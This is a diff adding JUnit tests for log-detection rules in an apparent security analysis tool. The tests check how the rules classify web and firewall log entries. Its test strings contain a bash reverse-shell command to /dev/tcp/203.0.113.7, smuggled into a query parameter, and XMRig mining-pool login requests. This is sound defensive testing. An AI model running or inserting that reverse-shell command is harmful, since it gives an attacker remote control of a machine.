@@ -12,6 +12,8 @@ import org.ephemera.analyze.model.Indicator;
 import org.ephemera.analyze.model.LogLine;
 import org.ephemera.analyze.model.Severity;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 
 class LogRulesTest {
     private static final String JOB = "net      new job from pool.example:3333 diff 120001 algo rx/0";
@@ -56,6 +58,51 @@ class LogRulesTest {
                 .containsExactly("CMD-001 medium", "LOG-002 medium");
         assertThat(rules.findings().findings().getFirst().because()).contains("an attempt");
         assertThat(rules.findings().indicators()).extracting(Indicator::value).contains("203.0.113.7");
+    }
+
+    /** Bots sign in to every web server as a miner does to its pool: the entry quotes it, and nothing mines. */
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "203.0.113.1 - - [26/Nov/2026:11:52:11 +0000] \"{\\\"id\\\":1,\\\"method\\\":\\\"login\\\",\\\"params\\\":"
+                        + "{\\\"login\\\":\\\"{WALLET}\\\",\\\"agent\\\":\\\"XMRig/6.15.3 (Windows NT 10.0)\\\"}}\" 400 226",
+                "{\"request\":\"{\\\"method\\\":\\\"login\\\",\\\"login\\\":\\\"{WALLET}\\\",\\\"agent\\\":\\\"XMRig/6.15.3\\\"}\",\"status\":\"400\"}",
+                "{\"req\":{\"method\":\"POST\",\"url\":\"/x\",\"agent\":\"XMRig/6.15.3\",\"login\":\"{WALLET}\"},\"status\":404}"
+            })
+    void takesASignInToAPoolForWhatWasAskedOfAServer(String entry) {
+        line("web", 1, entry.replace("{WALLET}", CommandSamples.WALLET));
+        assertThat(rules.findings().findings())
+                .extracting(f -> f.rule().id() + " " + f.severity().word())
+                .containsExactlyInAnyOrder("CMD-005 medium", "LOG-001 medium");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "{\"level\":30,\"req\":{\"method\":\"GET\",\"url\":\"/?x=;bash -i >& /dev/tcp/203.0.113.7/9001 0>&1\"}}",
+                "{\"log\":\"{\\\"httpMethod\\\":\\\"GET\\\",\\\"q\\\":\\\";bash -i >& /dev/tcp/203.0.113.7/9001 0>&1\\\"}\"}",
+                "ModSecurity: Access denied. Matched against ARGS:q (Value: `;bash -i >& /dev/tcp/203.0.113.7/9001 0>&1' ) [uri \"/\"]"
+            })
+    void takesRequestsInJsonAndOfFirewallsForAttempts(String entry) {
+        line("web", 1, entry);
+        assertThat(rules.findings().findings())
+                .extracting(f -> f.rule().id() + " " + f.severity().word())
+                .containsExactly("CMD-003 medium");
+    }
+
+    /** No words of a request: the same shell in an entry of another kind, and a miner's own line. */
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "{\"level\":30,\"method\":\"spawn\",\"cmd\":\"bash -i >& /dev/tcp/203.0.113.7/9001 0>&1\"}",
+                "[2026-11-26 11:52:11] \"stderr\" 12 bash -i >& /dev/tcp/203.0.113.7/9001 0>&1"
+            })
+    void takesNothingElseForARequest(String entry) {
+        line("web", 1, entry);
+        line("app", 1, " * ABOUT        XMRig/6.22.0 gcc/13.2.1");
+        assertThat(rules.findings().findings())
+                .extracting(f -> f.rule().id() + " " + f.severity().word())
+                .containsExactlyInAnyOrder("CMD-003 critical", "LOG-001 critical");
     }
 
     @Test
